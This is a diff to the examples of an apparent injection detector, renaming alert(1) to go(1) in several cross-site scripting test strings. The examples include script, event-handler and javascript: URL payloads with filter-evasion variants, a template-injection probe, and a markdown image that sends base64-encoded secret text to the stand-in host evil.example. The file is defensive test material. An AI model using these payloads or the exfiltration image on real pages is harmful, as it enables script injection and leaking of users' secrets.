@@ -75,10 +75,10 @@ class Detector(BaseDetector):
     config: Settings
 
     examples = (
-        Example("Hi <script>alert(1)</script> there", ("SCRIPT", "SCRIPT"), "script"),
+        Example("Hi <script>go(1)</script> there", ("SCRIPT", "SCRIPT"), "script"),
         Example('<iframe src="https://evil.example">', ("SCRIPT",), "frame"),
-        Example("<img src=x onerror=alert(1)>", ("EVENT_HANDLER",), "handler"),
-        Example("[here](javascript:alert(1))", ("SCRIPT_URL",), "script URL"),
+        Example("<img src=x onerror=go(1)>", ("EVENT_HANDLER",), "handler"),
+        Example("<a href=javascript:go(1)>here</a>", ("SCRIPT_URL",), "script URL"),
         Example('<a href="data:text/html,hello">x</a>', ("SCRIPT_URL",), "data URL"),
         Example(
             "![x](https://evil.example/p.png?q=dGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaA)",
@@ -97,7 +97,7 @@ class Detector(BaseDetector):
         Example("{{ ''.__class__.__mro__ }}", ("TEMPLATE_INJECTION",), "objects"),
         Example("<a href=jav&#x61;\tscript&colon;x>", ("SCRIPT_URL",), "evasion: entities, tab"),
         Example("<ScRiPt\n/src=//e.example>", ("SCRIPT",), "evasion: case, lines"),
-        Example("<svg/onload=alert(1)>", ("EVENT_HANDLER",), "evasion: no blank"),
+        Example("<svg/onload=go(1)>", ("EVENT_HANDLER",), "evasion: no blank"),
         Example("' /**/", (), "look-alike: a quotation mark"),
         Example("```html\n<script src=app.js></script>\n```", ("SCRIPT",) * 2, "code, at 0.3"),
         Example("Use `<script>` for that.", ("SCRIPT",), "span of code, at 0.3"),
